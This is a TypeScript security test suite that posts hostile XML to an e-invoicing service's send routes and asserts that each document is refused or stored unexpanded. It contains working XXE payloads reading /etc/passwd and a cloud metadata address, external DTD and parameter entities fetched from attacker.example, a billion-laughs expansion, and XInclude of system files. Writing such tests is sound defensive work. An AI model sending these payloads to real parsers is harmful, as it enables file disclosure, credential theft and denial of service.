// Hostile XML on every send route (core/documents/routes.ts SEND_ROUTES): DTDs and entities, XInclude, encodings,
// malformed and truncated documents, sizes over WHARF_MAX_DOCUMENT_BYTES / WHARF_BODY_LIMIT (set small here), media
// types. A refused document stores nothing; an accepted one is stored byte for byte, nothing expanded.
import { after } from 'node:test'
import assert from 'node:assert/strict'
import { buildWorld, fixture, SEND_ROUTES } from './world.ts'
import { runCases, type Case, type Expect } from './cases.ts'
import { api } from '../helpers/fixtures.ts'

const LIMIT = 64 * 1024
const w = await buildWorld({ WHARF_MAX_DOCUMENT_BYTES: String(LIMIT), WHARF_BODY_LIMIT: String(LIMIT) })
after(async () => { await w.close() })

const documents = async (): Promise<number> => Number((await w.t.wharf.knex('documents').count<Array<{ n: string }>>('* as n'))[0].n)
const BOM = '\uFEFF'
const refused = (code: string, status = 400): Expect => ({ status, code })
const ACCEPTED: Expect = { status: 202 }

/** Splits a document after its XML declaration (if any), to put things between it and the root. */
function parts (doc: string): { decl: string, body: string, root: string } {
  const m = /^(<\?xml[^?]*\?>)?\s*/.exec(doc) as RegExpExecArray
  const body = doc.slice(m[0].length)
  return { decl: m[1] ?? '', body, root: (/<(?![?!])([A-Za-z_][\w.-]*:)?([\w.-]+)/.exec(body) as RegExpExecArray)[2] }
}
/** Puts `xml` inside the root element, right after its start tag. */
const inside = (doc: string, xml: string): string => doc.replace(/(<(?!\?|!)[^>]+>)/, `$1${xml}`)
/** The document with its first cbc:ID text replaced (still valid). */
const withText = (doc: string, text: string): string => doc.replace(/(<cbc:ID>)[^<]*(<\/cbc:ID>)/, `$1${text}$2`)

/** name -> body (text or bytes), content type (default application/xml), expected answer. One line per attack. */
type Attack = [string, (doc: string) => string | Buffer, Expect, string?]
const ATTACKS: Attack[] = [
  ['valid document (control)', d => d, ACCEPTED],
  ['one UTF-8 BOM before the declaration (control)', d => BOM + d, ACCEPTED],
  ['text/xml (control)', d => d, ACCEPTED, 'text/xml'],
  ['internal DTD', d => { const p = parts(d); return `${p.decl}<!DOCTYPE ${p.root} [<!ELEMENT ${p.root} ANY>]>${p.body}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['external entity (file:///etc/passwd)', d => { const p = parts(d); return `${p.decl}<!DOCTYPE ${p.root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${inside(p.body, '&xxe;')}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['external entity (http URL)', d => { const p = parts(d); return `${p.decl}<!DOCTYPE ${p.root} [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>${withText(p.body, '&xxe;')}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['external DTD subset', d => { const p = parts(d); return `${p.decl}<!DOCTYPE ${p.root} SYSTEM "https://attacker.example/evil.dtd">${p.body}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['billion laughs', d => { const p = parts(d); const ents = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(''); return `${p.decl}<!DOCTYPE ${p.root} [<!ENTITY l0 "lol">${ents}]>${withText(p.body, '&l9;')}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['parameter entity', d => { const p = parts(d); return `${p.decl}<!DOCTYPE ${p.root} [<!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;]>${p.body}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['processing instruction before a DTD', d => { const p = parts(d); return `${p.decl}<?xml-stylesheet href="x.xsl"?><!DOCTYPE ${p.root} [<!ENTITY e "x">]>${p.body}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['comment before a DTD', d => { const p = parts(d); return `${p.decl}<!-- x --><!DOCTYPE ${p.root} [<!ENTITY e "x">]>${p.body}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['lower-case doctype keyword', d => { const p = parts(d); return `${p.decl}<!doctype ${p.root}>${p.body}` }, refused('XML_DTD_NOT_ALLOWED')],
  ['XInclude as the root element', () => '<?xml version="1.0" encoding="UTF-8"?><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', refused('UNSUPPORTED_DOCUMENT')],
  ['XInclude inside a valid document (kept as is, not expanded)', d => inside(d, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), ACCEPTED],
  ['<!DOCTYPE inside CDATA in a valid document', d => withText(d, '<![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>]]>'), ACCEPTED],
  ['<!DOCTYPE inside a comment in a valid document', d => inside(d, '<!-- <!DOCTYPE x [<!ENTITY e "x">]> -->'), ACCEPTED],
  ['UTF-16LE with BOM', d => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(d.replace(/encoding="UTF-8"/i, 'encoding="UTF-16"'), 'utf16le')]), refused('XML_ENCODING_NOT_SUPPORTED')],
  ['UTF-16BE with BOM', d => { const le = Buffer.from(d, 'utf16le'); for (let i = 0; i < le.length; i += 2) { const x = le[i]; le[i] = le[i + 1]; le[i + 1] = x } return Buffer.concat([Buffer.from([0xfe, 0xff]), le]) }, refused('XML_ENCODING_NOT_SUPPORTED')],
  ['declared encoding ISO-8859-1', d => `<?xml version="1.0" encoding="ISO-8859-1"?>${parts(d).body}`, refused('XML_ENCODING_NOT_SUPPORTED')],
  ['declared encoding windows-1252', d => `<?xml version="1.0" encoding="windows-1252"?>${parts(d).body}`, refused('XML_ENCODING_NOT_SUPPORTED')],
  ['Latin-1 bytes without a declaration', d => Buffer.from(withText(parts(d).body, 'Caf\u00e9'), 'latin1'), refused('XML_ENCODING_NOT_SUPPORTED')],
  ['two UTF-8 BOMs before the declaration', d => BOM + BOM + d, refused('INVALID_XML')],
  ['whitespace before the XML declaration', d => `  ${d}`, refused('INVALID_XML')],
  ['mismatched end tag', d => d.replace(/<\/cbc:ID>/, '</cbc:Id>'), refused('INVALID_XML')],
  ['truncated in the middle', d => d.slice(0, Math.floor(d.length / 2)), refused('INVALID_XML')],
  ['last byte missing', d => d.trimEnd().slice(0, -1), refused('INVALID_XML')],
  ['a second root element', d => `${d}<Invoice/>`, refused('INVALID_XML')],
  ['text after the root element', d => `${d}trailing`, refused('INVALID_XML')],
  ['undefined entity reference', d => withText(d, '&xxe;'), refused('INVALID_XML')],
  ['character reference to NUL', d => withText(d, '&#0;'), refused('INVALID_XML')],
  ['a NUL byte in the text', d => withText(d, 'a\u0000b'), refused('INVALID_XML')],
  ['unbound namespace prefix', d => inside(d, '<evil:x/>'), refused('INVALID_XML')],
  ['JSON sent as application/xml', () => '{"Invoice":{}}', refused('INVALID_XML')],
  ['PDF bytes', () => '%PDF-1.7\n%garbage\n1 0 obj <<>> endobj', refused('INVALID_XML')],
  ['bytes that are not UTF-8', () => Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0xc0, 0x3c, 0x2f, 0x61, 0x3e]), refused('XML_ENCODING_NOT_SUPPORTED')],
  ['empty body', () => '', refused('INVALID_XML')],
  ['not a business document', () => '<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', refused('UNSUPPORTED_DOCUMENT')],
  ['one byte over the size limit', d => inside(d, `<!--${'x'.repeat(LIMIT)}-->`), refused('PAYLOAD_TOO_LARGE', 413)],
  ['ten times the size limit', d => inside(d, `<!--${'x'.repeat(10 * LIMIT)}-->`), refused('PAYLOAD_TOO_LARGE', 413)],
  ['content type text/plain', d => d, refused('UNSUPPORTED_MEDIA_TYPE', 415), 'text/plain'],
  ['content type application/json', () => '{}', refused('UNSUPPORTED_MEDIA_TYPE', 415), 'application/json'],
  ['content type application/octet-stream', d => d, refused('UNSUPPORTED_MEDIA_TYPE', 415), 'application/octet-stream'],
  // Issue 18 point 4: the send routes take multipart/form-data; raw XML under that type has no parts (was 415).
  ['content type multipart/form-data with a raw XML body', d => d, refused('BAD_REQUEST'), 'multipart/form-data; boundary=x']
]

/** The same document as the `file` part of a multipart/form-data body (the send routes' second form). */
const BOUNDARY = 'hostile-form-boundary'
const asForm = (body: string | Buffer): Buffer => Buffer.concat([
  Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="doc.xml"\r\nContent-Type: application/xml\r\n\r\n`),
  Buffer.isBuffer(body) ? body : Buffer.from(body),
  Buffer.from(`\r\n--${BOUNDARY}--\r\n`)
])
const FORM = `multipart/form-data; boundary=${BOUNDARY}`

const cases: Case[] = []
for (const [segment, file] of Object.entries(SEND_ROUTES)) {
  const doc = fixture(file).toString('utf8')
  // Every attack on the XML itself also as the file part of a form.
  const forms: Attack[] = ATTACKS.filter(a => a[3] === undefined).map(([name, make, expect]) => [`${name} (multipart/form-data file part)`, make, expect, FORM])
  for (const [name, make, expect, contentType] of [...ATTACKS, ...forms]) {
    const body = make(doc)
    cases.push({
      name: `POST /api/v1/{partyId}/${segment}/send: ${name}`,
      as: 'A',
      request: { method: 'POST', url: `/api/v1/${w.A.partyId}/${segment}/send`, headers: { 'content-type': contentType ?? 'application/xml' }, payload: contentType === FORM ? asForm(body) : body },
      expect,
      prepare: documents,
      check: async (res, _w, before) => {
        if (expect.status !== 202) { assert.equal(await documents(), before, 'a refused document stores nothing'); return }
        // Stored byte for byte: nothing expanded, nothing transcoded.
        const dl = await api(w.t, w.A.token, 'GET', `/api/v1/${w.A.partyId}/generic/${res.json().documentId as string}/download`)
        assert.equal(dl.statusCode, 200)
        assert.ok(dl.rawPayload.equals(Buffer.isBuffer(body) ? body : Buffer.from(body)), 'downloaded bytes = sent bytes')
      }
    })
  }
  // A document of another family on this route.
  const [other, otherFile] = Object.entries(SEND_ROUTES).find(([s]) => s !== segment) as [string, string]
  cases.push({
    name: `POST /api/v1/{partyId}/${segment}/send: a ${other} document`,
    as: 'A',
    request: { method: 'POST', url: `/api/v1/${w.A.partyId}/${segment}/send`, headers: { 'content-type': 'application/xml' }, payload: fixture(otherFile) },
    expect: refused('WRONG_DOCUMENT_FAMILY')
  })
}

runCases(w, cases)
